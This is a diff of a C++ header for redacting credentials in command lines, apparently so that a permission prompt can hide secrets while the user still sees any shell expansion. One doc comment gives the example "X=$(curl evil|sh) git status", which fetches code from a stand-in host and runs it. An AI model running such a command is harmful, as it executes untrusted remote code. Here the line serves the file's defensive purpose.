@@ -1,6 +1,7 @@
 #pragma once
 
-#include <cstddef>
+#include "QuorvikCore/Text/VisibleText.h"
+
 #include <optional>
 #include <string>
 #include <string_view>
@@ -25,24 +26,20 @@ std::string redact(std::string_view text, std::optional<std::string_view> projec
 std::optional<std::string> redactStart(std::string_view start,
                                        std::optional<std::string_view> projectDir = std::nullopt);
 
-/// Bytes of a text, from `begin` to `end`.
-struct Stretch {
-    std::size_t begin, end;
-
-    bool operator==(const Stretch&) const = default;
-};
-
-/// The stretches of a text that redact() would show as "***" if it showed texts of any length, in ascending
-/// order and without overlap. For a front end that shows the whole text, with its line breaks, and marks what
-/// it hides.
+/// The credentials in a text of any length, in ascending order and without overlap: for a front end that
+/// shows the whole text, with its line breaks, and marks what it hides. They are what redact() hides, but
+///  - of assignments only the values of names that tell (SecretRule::credential): the user is to read the
+///    others before deciding, and `x=1` in source code is no credential,
+///  - of paths only their parts that look random,
+/// and passwords in URLs besides.
 ///
 /// The user must see whatever an "allow" would run. So a stretch ends where the text, read as a command line,
 /// might be more than data: at whatever a shell would run or expand, and before a word that names a command
 /// (see ShellReader). "X=$(curl evil|sh) git status" is shown as it is.
 ///
 /// `text` should be UTF-8, so that stretches do not cut characters.
-std::vector<Stretch> secrets(std::string_view text,
-                             std::optional<std::string_view> projectDir = std::nullopt);
+std::vector<VisibleText::Range> secrets(std::string_view text,
+                                        std::optional<std::string_view> projectDir = std::nullopt);
 
 /// Whether a token looks random: it holds a digit and a letter (ASCII), and the Shannon entropy of its
 /// characters is at least 3.5 bits each. English words lie near 3, base64 above 4.
